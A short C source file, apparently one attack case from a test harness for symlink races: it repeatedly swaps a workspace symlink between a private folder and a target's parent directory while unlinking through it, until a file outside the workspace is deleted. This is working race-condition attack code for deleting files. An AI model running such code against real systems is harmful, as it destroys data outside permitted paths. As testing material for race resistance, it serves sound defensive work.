#include "attack.h"
#include "opens.h"

static int attempt(const char *target, const char *workspace, const char *extra)
{
    /* The folder on the way is now its own and now the one outside: what is gone while its own is still there was the one outside. */
    char *outer = strdup(target), *link = in(workspace, "way"), *own = in(workspace, "own"), *path = NULL, *inside = NULL;
    int removed = 0;
    (void)extra;
    *strrchr(outer, '/') = '\0';
    mkdir(own, 0700);
    if (symlink(own, link) != 0 || asprintf(&path, "%s/target", link) < 0 || asprintf(&inside, "%s/target", own) < 0)
        return 0;
    struct swap swap = {.place = link, .one = own, .other = outer};
    if (!race_begins(&swap, keep_relinking))
        return 0;
    while (!removed && goes_on()) {
        close(open(inside, O_CREAT | O_WRONLY, 0600));
        removed = unlink(path) == 0 && access(inside, F_OK) == 0;
    }
    race_ends(&swap);
    return removed;
}
